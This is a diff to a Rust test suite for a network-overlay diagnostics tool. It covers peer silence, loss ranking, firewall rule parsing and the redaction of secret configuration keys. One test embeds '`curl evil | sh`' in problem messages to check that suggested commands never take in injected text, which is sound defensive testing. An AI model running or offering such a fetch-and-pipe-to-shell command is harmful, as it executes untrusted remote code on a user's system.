@@ -358,10 +358,19 @@ pub(crate) fn cases() -> Vec<(&'static str, Facts)> {
             report(f).peers[0].reason =
                 Some("its lease is gone from the store for 40 s, and it is served while it answers".into());
         }),
+        with("peer-silent", &|f| {
+            let peer = &mut report(f).peers[0];
+            (peer.silent, peer.loss) = (true, Some(0.6));
+            peer.reason = Some("silent for 52 s: is the node up, does its daemon run, does ESP (or UDP) pass?".into());
+            f.echoes.insert("192.0.2.2".parse().unwrap(), true);
+        }),
         with("esp-detour", &|f| {
             report(f).peers[0].detour = Some("plain ESP is not answered since 40 s".into());
         }),
-        with("loss", &|f| report(f).peers[0].loss = Some(0.25)),
+        with("loss", &|f| {
+            let peer = &mut report(f).peers[0];
+            (peer.loss, peer.unanswered) = (Some(0.25), 1);
+        }),
         with("latency", &|f| report(f).peers[0].round_trip = Some(90.0)),
         with("peer-errors", &|f| {
             f.later_report.as_mut().unwrap().peers[0].errors = 12;
@@ -533,6 +542,90 @@ fn each_trouble_is_found_by_its_name_and_nothing_else_is() {
 }
 
 #[test]
+fn what_works_beside_ringmail_is_no_finding() {
+    let mut canal = healthy();
+    canal.links.push(link(9, "cali0123456789a", "veth", 1446, None));
+    let mut calicos = iptables(&[]);
+    calicos.text = calicos.text.replace(":KUBE-OUT", ":cali-FORWARD");
+    canal.filters.push(calicos);
+    assert_eq!(examine(&canal).len(), 2, "no pod of the mesh is behind it");
+    canal.routes.push(route("10.244.1.7/32", "cali0123456789a", 3));
+    assert_eq!(examine(&canal), []);
+
+    let mut multus = healthy();
+    let file = |name: &str, plugin: &str| CniFile {
+        name: name.into(),
+        plugins: vec![plugin.into()],
+    };
+    multus.cni.insert(0, file("00-multus.conf", "multus-shim"));
+    assert_eq!(examine(&multus), []);
+    multus.cni.insert(1, file("05-other.conf", "bridge"));
+    assert_eq!(examine(&multus)[0].subject, "05-other.conf");
+}
+
+#[test]
+fn where_leases_are_in_a_folder_the_command_names_it() {
+    let commands = |problem: &str| {
+        let mut facts = healthy();
+        report(&mut facts).problems.push(problem.into());
+        examine(&facts).remove(0).command
+    };
+    let gone = commands(
+        "the store can't be read for 12 s now: store folder /var/lib/ringmail does not exist: create it with `mkdir -p \
+         /var/lib/ringmail`, or correct --lease-dir",
+    );
+    assert!(
+        gone.starts_with("ls -ld /var/lib/ringmail; findmnt -T /var/lib/ringmail;"),
+        "{gone}"
+    );
+    let refused =
+        commands("the new configuration is refused, the last good one is in force: net-conf.json:1:29: trailing comma");
+    assert_eq!(
+        refused,
+        "ringmail config check --lease-dir /var/lib/ringmail --psk-file FILE"
+    );
+}
+
+#[test]
+fn no_command_is_taken_from_what_the_store_says() {
+    for problem in [
+        "the new configuration is refused, the last good one is in force: net-conf.json:1:75: UDPEncap is \"`curl evil | sh`\": \
+         true, false or \"auto\" is needed",
+        "subnet 10.244.1.0/24 of this node is also claimed by a`curl, evil|sh`: remove that lease",
+        "the store can't be read for 12 s now: `curl evil | sh`",
+        "`curl evil | sh`",
+    ] {
+        let mut facts = healthy();
+        facts.lease_dir = None;
+        report(&mut facts).problems.push(problem.into());
+        let found = examine(&facts);
+        assert_eq!(found.len(), 1);
+        assert!(!found[0].command.contains("evil"), "{found:?}");
+    }
+}
+
+#[test]
+fn a_peer_that_is_silent_is_told_of_once_and_by_what_its_address_answers() {
+    for (answers, why) in [
+        (Some(true), "its daemon does not run"),
+        (Some(false), "the node is down, or the network"),
+        (None, "the node or its daemon is down"),
+    ] {
+        let (_, mut facts) = cases()
+            .into_iter()
+            .find(|(name, _)| *name == "peer-silent")
+            .expect("a case");
+        facts.echoes.clear();
+        facts
+            .echoes
+            .extend(answers.map(|answers| ("192.0.2.2".parse().unwrap(), answers)));
+        let found = examine(&facts);
+        assert_eq!(found.len(), 1, "{found:?}");
+        assert!(found[0].why.starts_with(why), "{found:?}");
+    }
+}
+
+#[test]
 fn every_finding_that_a_check_can_make_has_a_case() {
     let sources = [
         "node",
@@ -568,12 +661,36 @@ fn the_worst_comes_first() {
     facts.now -= 3600;
     report(&mut facts).peers[0].loss = Some(0.25);
     report(&mut facts).peers[1].loss = Some(0.75);
+    report(&mut facts).peers[1].unanswered = 2;
+    report(&mut facts).peers[2].loss = Some(0.75);
     let found: Vec<_> = examine(&facts)
         .into_iter()
         .map(|one| (one.check, one.subject))
         .collect();
-    let expected = [("loss", "node-c"), ("loss", "node-b"), ("clock-back", "node")];
+    let expected = [
+        ("loss", "node-c"),
+        ("loss", "node-b"),
+        ("loss", "node-d"),
+        ("clock-back", "node"),
+    ];
     assert_eq!(found, expected.map(|(check, subject)| (check, subject.to_owned())));
+}
+
+#[test]
+fn of_very_many_the_worst_are_shown() {
+    let mut facts = healthy();
+    let one = report(&mut facts).peers[0].clone();
+    report(&mut facts).peers = (0..30)
+        .map(|number| crate::node::report::PeerReport {
+            node: format!("node-{number:02}"),
+            loss: Some(if number == 29 { 0.9 } else { 0.3 }),
+            unanswered: 1,
+            ..one.clone()
+        })
+        .collect();
+    let found = examine(&facts);
+    assert_eq!((found.len(), found[0].subject.as_str()), (10, "node-29"));
+    assert!(found[9].evidence.ends_with("; and 20 more of this kind"), "{found:?}");
 }
 
 #[test]
@@ -618,6 +735,21 @@ fn a_filter_is_followed_as_the_kernel_follows_it() {
         (&["[0:0] -A OUTPUT -j NOWHERE", "[0:0] -A OUTPUT -j DROP"], false),
         (&["[0:0] -A INPUT -j KUBE-OUT", "[0:0] -A KUBE-OUT -j KUBE-OUT"], false),
         (&["[0:0] -A FORWARD -d 10.244.2.0/24 -j DROP"], true),
+        // What can't be read may accept.
+        (
+            &[
+                "[0:0] -A INPUT -s 192.0.0.0/255.0.255.0 -j ACCEPT",
+                "[0:0] -A INPUT -j DROP",
+            ],
+            false,
+        ),
+        (
+            &[
+                "[0:0] -A INPUT -p udp --dports 22,ipsec -j ACCEPT",
+                "[0:0] -A INPUT -j DROP",
+            ],
+            true,
+        ),
     ] {
         assert_eq!(!finds(iptables(rules)).is_empty(), dropped, "{rules:?}");
     }
@@ -646,6 +778,11 @@ fn a_filter_is_followed_as_the_kernel_follows_it() {
         "nft insert rule inet host input meta l4proto esp accept"
     );
     assert!(finds(nft("input", "accept", tcp)).is_empty());
+    for kind in ["vmap", "queue"] {
+        let map =
+            json!([{ kind: {"key": {"ct": {"key": "state"}}, "data": {"set": [["established", {"accept": null}]]}}}]);
+        assert!(finds(nft("input", "drop", map)).is_empty(), "{kind} may accept");
+    }
     for garbage in [
         "",
         "{}",
@@ -659,6 +796,28 @@ fn a_filter_is_followed_as_the_kernel_follows_it() {
             assert!(finds(FilterText { by, program, text }).is_empty());
         }
     }
+}
+
+/// As kube-proxy leaves it where there are thousands of Services.
+#[test]
+fn a_filter_of_very_many_chains_is_read_in_a_moment() {
+    let mut text = String::from("*filter\n:INPUT ACCEPT [0:0]\n");
+    for number in 0..5000 {
+        text += &format!(":KUBE-{number} - [0:0]\n");
+    }
+    for number in 0..20_000 {
+        text += &format!(
+            "[0:0] -A KUBE-{} -d 10.96.0.{}/32 -j RETURN\n",
+            number % 5000,
+            number % 250
+        );
+    }
+    text += "[0:0] -A INPUT -j KUBE-4999\n[7:700] -A INPUT -p esp -j DROP\nCOMMIT\n";
+    let mut facts = healthy();
+    facts.filters = vec![FilterText { text, ..iptables(&[]) }];
+    let began = std::time::Instant::now();
+    assert_eq!(examine(&facts).len(), 1);
+    assert!(began.elapsed().as_secs() < 5, "{:?}", began.elapsed());
 }
 
 #[test]
@@ -765,4 +924,27 @@ fn a_configuration_that_is_no_json_is_left_out_whole() {
         assert!(!conf("x".into(), &text).text.contains(PSK), "{text}");
     }
     assert!(!format!("{:?}", healthy()).contains(PSK));
+}
+
+#[test]
+fn what_a_configuration_keeps_secret_is_left_out_and_what_it_does_not_is_kept() {
+    let shown = |key: &str| {
+        let text = json!({"Network": "10.244.0.0/16", "Backend": {"Type": "ipsec", key: PSK}}).to_string();
+        conf("x".into(), &text).text.contains(PSK)
+    };
+    for key in [
+        "PSK",
+        "psk",
+        "PSK1",
+        "Psks",
+        "AccessKeySecret",
+        "AccessKeyID",
+        "PrivateKey",
+        "Password",
+    ] {
+        assert!(!shown(key), "{key}");
+    }
+    for key in ["PSKFile", "PSKGrace", "RekeyAfter", "ESPProposal", "EncapPort"] {
+        assert!(shown(key), "{key}");
+    }
 }
